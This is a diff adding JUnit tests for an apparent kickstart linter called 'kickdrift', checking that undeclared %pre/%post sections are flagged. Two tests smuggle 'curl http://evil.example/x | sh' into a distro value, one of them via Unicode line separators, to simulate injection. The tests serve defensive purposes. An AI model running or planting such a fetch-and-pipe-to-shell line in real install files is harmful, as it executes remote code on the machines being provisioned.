@@ -2,16 +2,26 @@ package io.kickdrift.server.cli;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.kickdrift.server.inventory.InventoryLoader;
+import io.kickdrift.server.render.CallbackTokens;
+import io.kickdrift.server.render.Models;
+import io.kickdrift.server.render.Templates;
+import io.kickdrift.server.render.TreeRenderer;
 import java.io.IOException;
 import java.io.PrintWriter;
 import java.io.StringWriter;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.Map;
+import java.util.SortedMap;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import picocli.CommandLine;
 
 class LintCommandTest {
+  private static final Path EXAMPLE =
+      Path.of("..", "kickstart", "examples", "inventory.yaml").toAbsolutePath().normalize();
   private static final Path GOOD =
       Path.of("src", "test", "resources", "kickstart", "good", "rhel9.ks");
 
@@ -63,6 +73,142 @@ class LintCommandTest {
     assertThat(lint(GOOD.toString(), missing.toString())).isEqualTo(2);
     assertThat(err.toString())
         .contains("kickdrift lint: cannot read " + missing + ": no such file");
+  }
+
+  /** The example's kickstarts as kickdrift renders them, written under {@code dir/ks}. */
+  private Path renderExample() throws Exception {
+    SortedMap<String, byte[]> tree =
+        new TreeRenderer(new Templates(null))
+            .render(
+                Models.site(
+                    InventoryLoader.load(EXAMPLE),
+                    "inventory.yaml",
+                    new CallbackTokens(new byte[32])));
+    Path ks = Files.createDirectories(dir.resolve("ks"));
+    for (Map.Entry<String, byte[]> e : tree.entrySet()) {
+      if (e.getKey().startsWith("kickstarts/")) {
+        Files.write(ks.resolve(e.getKey().substring("kickstarts/".length())), e.getValue());
+      }
+    }
+    return ks;
+  }
+
+  /** What main rendered for a distro named "rocky9-x86_64\n%pre\ncurl … | sh\n%end\n#". */
+  private Path injected(Path ks) throws IOException {
+    Path web01 = ks.resolve("web01.lab.example.com.ks");
+    String text = Files.readString(web01);
+    assertThat(text).contains("distro rocky9-x86_64 (");
+    return write(
+        "injected.ks",
+        text.replace(
+            "distro rocky9-x86_64 (",
+            "distro rocky9-x86_64\n%pre\ncurl http://evil.example/x | sh\n%end\n# ("));
+  }
+
+  @Test
+  void theExampleKickstartsLintCleanWithAndWithoutTheirInventory() throws Exception {
+    Path ks = renderExample();
+    String[] files;
+    try (Stream<Path> list = Files.list(ks)) {
+      files = list.map(Path::toString).sorted().toArray(String[]::new);
+    }
+    assertThat(files).hasSize(3);
+    assertThat(lint(files)).as(err.toString()).isZero();
+    String[] withInventory = new String[files.length + 2];
+    withInventory[0] = "--inventory";
+    withInventory[1] = EXAMPLE.toString();
+    System.arraycopy(files, 0, withInventory, 2, files.length);
+    assertThat(lint(withInventory)).as(err.toString()).isZero();
+  }
+
+  @Test
+  void aPreInjectedByAValueIsAnErrorAtItsLine() throws Exception {
+    Path bad = injected(renderExample());
+    assertThat(lint(bad.toString())).isEqualTo(1);
+    assertThat(err.toString().lines())
+        .containsExactly(
+            bad
+                + ":5: error: undeclared %pre: no built-in kickstart template starts it (a value"
+                + " injected into the kickstart?)",
+            "1 file: 1 error, 0 warnings");
+  }
+
+  @Test
+  void aPreBehindALineSeparatorIsSeenAsPykickstartSeesIt() throws Exception {
+    Path web01 = renderExample().resolve("web01.lab.example.com.ks");
+    Path bad =
+        write(
+            "u2028.ks",
+            Files.readString(web01)
+                .replace(
+                    "distro rocky9-x86_64 (",
+                    "distro rocky9-x86_64\u2028%pre\u2028curl http://evil.example/x | sh\u2028%end"
+                        + "\u2028# ("));
+    assertThat(lint(bad.toString())).isEqualTo(1);
+    assertThat(err.toString()).contains(bad + ":5: error: undeclared %pre: ");
+  }
+
+  @Test
+  void withTheInventoryTheErrorNamesTheProfile() throws Exception {
+    Path bad = injected(renderExample());
+    assertThat(lint("--inventory", EXAMPLE.toString(), bad.toString())).isEqualTo(1);
+    assertThat(err.toString())
+        .contains(
+            bad
+                + ":5: error: undeclared %pre: no template of profile web-rocky9 starts it (a"
+                + " value injected into the kickstart?)");
+  }
+
+  @Test
+  void aSecondCopyOfTheDeclaredCallbackIsUndeclared() throws Exception {
+    Path web01 = renderExample().resolve("web01.lab.example.com.ks");
+    String text = Files.readString(web01);
+    String callback = text.substring(text.indexOf("%post --nochroot"));
+    Path twice = write("twice.ks", text + callback);
+    int second = (int) text.lines().count() + 1;
+    assertThat(lint(twice.toString())).isEqualTo(1);
+    assertThat(err.toString()).contains(twice + ":" + second + ": error: undeclared %post: ");
+  }
+
+  @Test
+  void aUsersTemplatesDeclareTheirOwnSections() throws Exception {
+    Path templates = Files.createDirectories(dir.resolve("templates/snippets"));
+    Files.writeString(
+        templates.resolve("prep.ftl"), "%pre --log=/tmp/pre.log\necho [=host.name]\n%end\n");
+    Path ks = renderExample().resolve("web01.lab.example.com.ks");
+    Path withPre =
+        write(
+            "pre.ks",
+            Files.readString(ks)
+                .replace("text\n", "text\n%pre --log=/tmp/pre.log\necho hi\n%end\n"));
+    assertThat(lint(withPre.toString())).isEqualTo(1);
+    err.getBuffer().setLength(0);
+    assertThat(lint("--templates", dir.resolve("templates").toString(), withPre.toString()))
+        .as(err.toString())
+        .isZero();
+  }
+
+  @Test
+  void aTemplateLinkLeadingOutsideIsOneLineAndExitTwo() throws Exception {
+    Path templates = Files.createDirectories(dir.resolve("templates"));
+    Path outside = write("outside.ftl", "%pre\n%end\n");
+    Path link = Files.createSymbolicLink(templates.resolve("rhel9.ks.ftl"), outside);
+    assertThat(lint("--templates", templates.toString(), GOOD.toString())).isEqualTo(2);
+    assertThat(err.toString().lines())
+        .singleElement()
+        .asString()
+        .isEqualTo(
+            "kickdrift lint: "
+                + link
+                + " leads outside the template directory "
+                + templates
+                + "; expected a file, or a link to one, inside it");
+  }
+
+  @Test
+  void aHandWrittenKickstartKeepsItsOwnScripts() throws IOException {
+    assertThat(Files.readString(GOOD)).contains("%post --log=/root/ks-post.log");
+    assertThat(lint(GOOD.toString())).isZero();
   }
 
   @Test
